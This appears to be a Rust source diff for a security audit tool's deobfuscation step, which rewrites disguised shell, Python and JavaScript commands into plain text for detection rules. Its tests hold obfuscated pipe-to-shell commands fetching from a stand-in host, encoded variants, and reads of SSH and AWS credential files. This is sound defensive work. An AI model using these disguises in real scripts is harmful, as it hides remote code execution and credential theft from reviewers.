@@ -1,0 +1,392 @@
+//! Seeing through the common disguises (docs/audit.md#disguises): the text
+//! a command means once the shell, Python or JavaScript has put it
+//! together. [`unfold`] joins continued lines, expands variables that were
+//! assigned a literal, joins concatenated strings, drops quotes and
+//! backslashes that split a word (`c\url`, `c''url`), reads `env bash` and
+//! `$SHELL` as the shell, writes home-folder paths built from parts as one
+//! path, and replaces base64, hex, character-code and (where the file
+//! speaks of it) rot13 literals by the text they decode to. The rules then
+//! read the unfolded text as well as the file's own.
+
+use std::collections::HashMap;
+use std::sync::LazyLock;
+
+use base64::Engine as _;
+use regex::{Captures, Regex};
+
+/// The unfolded text of a file, and for each of its lines the 1-based line
+/// of the file it starts on.
+pub(super) struct Unfolded {
+    pub text: String,
+    pub line_of: Vec<usize>,
+}
+
+/// Word boundaries are ASCII ones: a Unicode `\b` makes the regex crate
+/// fall back to its slowest engine on text outside ASCII
+/// (docs/performance.md#the-audits-rules).
+fn re(source: &str) -> Regex {
+    Regex::new(&source.replace(r"\b", r"(?-u:\b)"))
+        .unwrap_or_else(|e| panic!("audit disguise: {e}"))
+}
+
+static ASSIGN: LazyLock<Regex> = LazyLock::new(|| {
+    re(
+        r#"(?m)(?:^|[;&{(]\s*)\s*(?:export\s+|local\s+|readonly\s+|declare\s+(?:-\w+\s+)?|const\s+|let\s+|var\s+|set\s+)?\$?([A-Za-z_][A-Za-z0-9_]*)\s*(=|:=|\s=\s)\s*(?:"([^"\n]*)"|'([^'\n]*)'|`([^`\n]*)`|([^\s;&|'"`()=]+))"#,
+    )
+});
+static CONCAT: LazyLock<Regex> = LazyLock::new(|| re(r#"["'`]\s*(?:\+|\.\.?|&)\s*["'`]"#));
+static SHELL_VAR: LazyLock<Regex> = LazyLock::new(|| re(r"\$\{?(SHELL|BASH|ZSH_NAME)\}?"));
+static ENV_SHELL: LazyLock<Regex> = LazyLock::new(|| {
+    re(
+        r"\b(?:/usr/bin/)?(?:env|command|exec|builtin)\s+(?:-\S+\s+)*((?:ba|z|da|k)?sh|python[0-9.]*|node|perl|ruby|php|pwsh)\b",
+    )
+});
+static HOME: LazyLock<Regex> = LazyLock::new(|| {
+    re(
+        r#"(?i)(?:Path\.home\(\)|Path\(\s*["']~["']\s*\)(?:\.expanduser\(\))?|os\.homedir\(\)|homedir\(\)|os\.path\.expanduser\(\s*["']~["']\s*\)|os\.(?:getenv|environ\.get)\(\s*["'](?:HOME|USERPROFILE)["']\s*\)|os\.environ\[\s*["'](?:HOME|USERPROFILE)["']\s*\]|process\.env\.(?:HOME|USERPROFILE)|process\.env\[\s*["'](?:HOME|USERPROFILE)["']\s*\]|\$env:(?:USERPROFILE|HOME)|Dir\.home|ENV\[\s*["']HOME["']\s*\]|os\.UserHomeDir\(\)|%USERPROFILE%|\$\{?HOME\}?)"#,
+    )
+});
+static PATH_JOIN: LazyLock<Regex> = LazyLock::new(|| {
+    re(
+        r#"(?:os\.path\.join|path\.join|path\.resolve|filepath\.Join|File\.join|joinpath|Path)\s*\(([^()\n]*)\)"#,
+    )
+});
+static SLASH_PARTS: LazyLock<Regex> = LazyLock::new(|| re(r#"["']?\s*/\s*["']|["']\s*/\s*|\\\\?"#));
+static BASE64: LazyLock<Regex> = LazyLock::new(|| re(r"[A-Za-z0-9+/_-]{12,}={0,2}"));
+static HEX_ESCAPES: LazyLock<Regex> =
+    LazyLock::new(|| re(r"(?:\\x[0-9a-fA-F]{2}|\\u00[0-9a-fA-F]{2}){4,}"));
+static HEX_RUN: LazyLock<Regex> = LazyLock::new(|| re(r"\b(?:[0-9a-fA-F]{2}){6,}\b"));
+static CHR: LazyLock<Regex> = LazyLock::new(|| {
+    re(
+        r"(?i)(?:chr\(\s*\d+\s*\)\s*\+?\s*){3,}|(?:\[char\]\s*\d+\s*\+?\s*){3,}|fromcharcode\(\s*[\d\s,]+\)",
+    )
+});
+static NUMBER: LazyLock<Regex> = LazyLock::new(|| re(r"\d+"));
+static QUOTED: LazyLock<Regex> = LazyLock::new(|| re(r#""([^"\n]{3,})"|'([^'\n]{3,})'"#));
+
+/// Words that say a file decodes base64 (`base64 -d`, `b64decode`,
+/// `atob`, `FromBase64String`, `-EncodedCommand`, `Buffer.from(…,
+/// 'base64')`): only then are long base64-looking words decoded.
+const BASE64_WORDS: &[&str] = &["base64", "b64", "atob", "-enc", "-e "];
+
+/// The file's text as the interpreter assembles it, or `None` when there is
+/// nothing to unfold.
+pub(super) fn unfold(text: &str) -> Option<Unfolded> {
+    let lower = text.to_ascii_lowercase();
+    // Continued lines first: the rest reads whole commands.
+    let mut lines: Vec<String> = Vec::new();
+    let mut line_of = Vec::new();
+    let mut joining = false;
+    let mut last_was_backslash = false;
+    for (i, line) in text.split('\n').enumerate() {
+        let trimmed = line.trim_end();
+        let continued = trimmed.ends_with('\\') && !trimmed.ends_with("\\\\")
+            || trimmed.ends_with('`') && !trimmed.ends_with("``")
+            || trimmed.ends_with('|')
+                && !trimmed.ends_with("||")
+                && !trimmed.trim_start().starts_with('|')
+            || trimmed.ends_with("&&");
+        let piece = trimmed
+            .strip_suffix('\\')
+            .or_else(|| trimmed.strip_suffix('`').filter(|_| continued))
+            .unwrap_or(line);
+        if joining {
+            if let Some(last) = lines.last_mut() {
+                // A backslash-newline is removed and nothing else (`cu\⏎rl`
+                // is `curl`); after a pipe or `&&` the next line is a new word.
+                if !last_was_backslash {
+                    last.push(' ');
+                }
+                last.push_str(if last_was_backslash {
+                    piece
+                } else {
+                    piece.trim_start()
+                });
+            }
+        } else {
+            lines.push(piece.to_owned());
+            line_of.push(i + 1);
+        }
+        joining = continued;
+        last_was_backslash = trimmed.ends_with('\\');
+    }
+    let decode_base64 = BASE64_WORDS.iter().any(|w| lower.contains(w));
+    let decode_hex = lower.contains("\\x") || lower.contains("\\u00") || lower.contains("hex");
+    let rot13 = lower.contains("rot13")
+        || lower.contains("rot_13")
+        || lower.contains("rot-13")
+        || lower.contains("n-za-m");
+    let chars =
+        lower.contains("chr(") || lower.contains("[char]") || lower.contains("fromcharcode");
+    let home = lower.contains("home") || lower.contains("profile") || lower.contains("expanduser");
+    for line in &mut lines {
+        let mut l = std::mem::take(line);
+        for _ in 0..2 {
+            if decode_base64 {
+                l = BASE64
+                    .replace_all(&l, |c: &Captures| {
+                        decoded_base64(&c[0]).unwrap_or_else(|| c[0].to_owned())
+                    })
+                    .into_owned();
+            }
+        }
+        if decode_hex {
+            l = HEX_ESCAPES
+                .replace_all(&l, |c: &Captures| {
+                    let hex: String = c[0].replace("\\x", "").replace("\\u00", "");
+                    printable(hex::decode(hex).ok()).unwrap_or_else(|| c[0].to_owned())
+                })
+                .into_owned();
+            l = HEX_RUN
+                .replace_all(&l, |c: &Captures| {
+                    printable(hex::decode(&c[0]).ok()).unwrap_or_else(|| c[0].to_owned())
+                })
+                .into_owned();
+        }
+        if chars {
+            l = CHR
+                .replace_all(&l, |c: &Captures| {
+                    let s: Option<String> = NUMBER
+                        .find_iter(&c[0])
+                        .map(|n| n.as_str().parse::<u32>().ok().and_then(char::from_u32))
+                        .collect();
+                    s.map_or_else(|| c[0].to_owned(), |s| format!("\"{s}\""))
+                })
+                .into_owned();
+        }
+        if rot13 {
+            l = QUOTED
+                .replace_all(&l, |c: &Captures| {
+                    let inner = c.get(1).or(c.get(2)).map_or("", |m| m.as_str());
+                    format!("\"{}\"", rot13_of(inner))
+                })
+                .into_owned();
+        }
+        if home {
+            l = HOME.replace_all(&l, "~").into_owned();
+            if l.contains('~') {
+                l = PATH_JOIN
+                    .replace_all(&l, |c: &Captures| {
+                        let parts: Vec<String> = c[1]
+                            .split(',')
+                            .map(|p| p.trim().trim_matches(['"', '\'', '`']).to_owned())
+                            .collect();
+                        parts.join("/")
+                    })
+                    .into_owned();
+                l = SLASH_PARTS.replace_all(&l, "/").into_owned();
+            }
+        }
+        l = SHELL_VAR.replace_all(&l, "sh").into_owned();
+        l = ENV_SHELL.replace_all(&l, "$1").into_owned();
+        l = CONCAT.replace_all(&l, "").into_owned();
+        *line = l;
+    }
+    // Variables assigned a literal, then expanded.
+    let mut values: HashMap<String, String> = HashMap::new();
+    for line in &lines {
+        for c in ASSIGN.captures_iter(line) {
+            let value = (3..=6).find_map(|i| c.get(i)).map_or("", |m| m.as_str());
+            if !value.is_empty() && value.len() <= 400 && values.len() < 200 {
+                values
+                    .entry(c[1].to_owned())
+                    .or_insert_with(|| value.to_owned());
+            }
+        }
+    }
+    if !values.is_empty() {
+        for line in &mut lines {
+            if !line.contains('$') && !values.keys().any(|k| line.contains(k.as_str())) {
+                continue;
+            }
+            *line = expand(line, &values);
+            *line = CONCAT.replace_all(line, "").into_owned();
+        }
+    }
+    let mut out = lines.join("\n");
+    out = split_words(&out);
+    (out != text).then_some(Unfolded { text: out, line_of })
+}
+
+/// `$name`, `${name}` and (outside assignments) a bare `name` replaced by
+/// the literal it was assigned.
+fn expand(line: &str, values: &HashMap<String, String>) -> String {
+    static NAME: LazyLock<Regex> =
+        LazyLock::new(|| re(r"(\$\{?|%)?\b([A-Za-z_][A-Za-z0-9_]*)\b(\}|%)?(\s*=[^=])?"));
+    NAME.replace_all(line, |c: &Captures| {
+        let whole = c[0].to_owned();
+        if c.get(4).is_some() {
+            return whole;
+        }
+        let Some(value) = values.get(&c[2]) else {
+            return whole;
+        };
+        match c.get(1) {
+            Some(_) => format!(
+                "{value}{}",
+                if c.get(3)
+                    .is_some_and(|m| m.as_str() == "}" || m.as_str() == "%")
+                {
+                    ""
+                } else {
+                    c.get(3).map_or("", |m| m.as_str())
+                }
+            ),
+            None if c[2].len() >= 2 || values.len() <= 20 => {
+                format!("\"{value}\"{}", c.get(3).map_or("", |m| m.as_str()))
+            }
+            None => whole,
+        }
+    })
+    .into_owned()
+}
+
+/// Quotes and backslashes inside a word dropped (`c\url`, `c''url`,
+/// `c"ur"l` all read `curl`), as the shell drops them.
+fn split_words(text: &str) -> String {
+    let chars: Vec<char> = text.chars().collect();
+    let mut out = String::with_capacity(text.len());
+    let word = |c: Option<&char>| c.is_some_and(|c| c.is_ascii_alphanumeric());
+    let mut i = 0;
+    while i < chars.len() {
+        let c = chars[i];
+        if matches!(c, '\\' | '"' | '\'') && word(out.chars().last().as_ref()) {
+            // `''` and `""` inside a word, or one quote or backslash between letters.
+            if c != '\\' && chars.get(i + 1) == Some(&c) && word(chars.get(i + 2)) {
+                i += 2;
+                continue;
+            }
+            if word(chars.get(i + 1))
+                && !(c == '\''
+                    && matches!(
+                        chars.get(i + 1),
+                        Some('s' | 't' | 'd' | 'l' | 'r' | 'v' | 'm')
+                    ))
+            {
+                i += 1;
+                continue;
+            }
+        }
+        out.push(c);
+        i += 1;
+    }
+    out
+}
+
+/// The text a base64 word decodes to, when it is text: printable ASCII,
+/// line breaks as ` ; `.
+fn decoded_base64(word: &str) -> Option<String> {
+    let trimmed = word.trim_end_matches('=');
+    if trimmed.len() < 12
+        || !trimmed
+            .bytes()
+            .any(|b| b.is_ascii_digit() || b.is_ascii_uppercase())
+    {
+        return None;
+    }
+    let engines = [
+        base64::engine::general_purpose::STANDARD_NO_PAD,
+        base64::engine::general_purpose::URL_SAFE_NO_PAD,
+    ];
+    for engine in engines {
+        if let Ok(bytes) = engine.decode(trimmed) {
+            // PowerShell's -EncodedCommand is UTF-16LE.
+            let bytes = if bytes.len() > 4 && bytes.iter().skip(1).step_by(2).all(|&b| b == 0) {
+                bytes.iter().step_by(2).copied().collect()
+            } else {
+                bytes
+            };
+            if let Some(text) = printable(Some(bytes)) {
+                return Some(text);
+            }
+        }
+    }
+    None
+}
+
+/// Bytes that are text a person could read: printable ASCII and line
+/// breaks, with at least one letter and one space or punctuation.
+fn printable(bytes: Option<Vec<u8>>) -> Option<String> {
+    let bytes = bytes?;
+    if bytes.len() < 4
+        || !bytes
+            .iter()
+            .all(|&b| b.is_ascii_graphic() || matches!(b, b' ' | b'\n' | b'\r' | b'\t'))
+        || !bytes.iter().any(u8::is_ascii_alphabetic)
+        || !bytes.iter().any(|&b| !b.is_ascii_alphanumeric())
+    {
+        return None;
+    }
+    let text = String::from_utf8(bytes).ok()?;
+    Some(text.trim().replace("\r\n", " ; ").replace('\n', " ; "))
+}
+
+fn rot13_of(text: &str) -> String {
+    text.chars()
+        .map(|c| match c {
+            'a'..='m' | 'A'..='M' => (c as u8 + 13) as char,
+            'n'..='z' | 'N'..='Z' => (c as u8 - 13) as char,
+            _ => c,
+        })
+        .collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn unfolded(text: &str) -> String {
+        unfold(text).map_or_else(|| text.to_owned(), |u| u.text)
+    }
+
+    #[test]
+    fn disguised_commands_read_as_the_shell_reads_them() {
+        for (disguised, plain) in [
+            (
+                "cu\\\nrl -s https://x.example/i |\\\n bash",
+                "curl -s https://x.example/i | bash",
+            ),
+            ("c\\url -s https://x.example/i | sh", "curl -s"),
+            ("c''url https://x.example | sh", "curl https"),
+            ("A=cu; B=rl; $A$B -s https://x.example | sh", "curl -s"),
+            ("curl -s https://x.example | env bash", "| bash"),
+            ("curl -s https://x.example | $SHELL", "| sh"),
+            (
+                "os.system('cu' + 'rl -s https://x.example | sh')",
+                "curl -s",
+            ),
+            (
+                "echo Y3VybCAtcyBodHRwczovL3guZXhhbXBsZSB8IHNo | base64 -d > /tmp/x",
+                "curl -s https://x.example | sh",
+            ),
+            (
+                "exec(bytes.fromhex('6375726c202d732068747470733a2f2f78').decode())",
+                "curl -s https://x",
+            ),
+            (
+                "import codecs; os.system(codecs.decode('phey -f uggcf://k.rknzcyr | fu', 'rot13'))",
+                "curl -s https://x.example | sh",
+            ),
+            (
+                "open(Path.home() / '.aws' / 'credentials')",
+                "~/.aws/credentials",
+            ),
+            (
+                "os.path.join(os.path.expanduser('~'), '.ssh', 'id_rsa')",
+                "~/.ssh/id_rsa",
+            ),
+            ("eval(String.fromCharCode(99,117,114,108))", "\"curl\""),
+        ] {
+            let got = unfolded(disguised);
+            assert!(got.contains(plain), "{disguised:?} unfolds to {got:?}");
+        }
+        // Honest text keeps its meaning: a line lists tools, a commit hash
+        // stays a hash, English keeps its apostrophes.
+        assert_eq!(
+            unfolded("Don't run it; it's fine."),
+            "Don't run it; it's fine."
+        );
+        let sha = "see 4f1c2a9e0b7d3c5a8e6f9a1b2c3d4e5f6a7b8c9d";
+        assert_eq!(unfolded(sha), sha);
+    }
+}
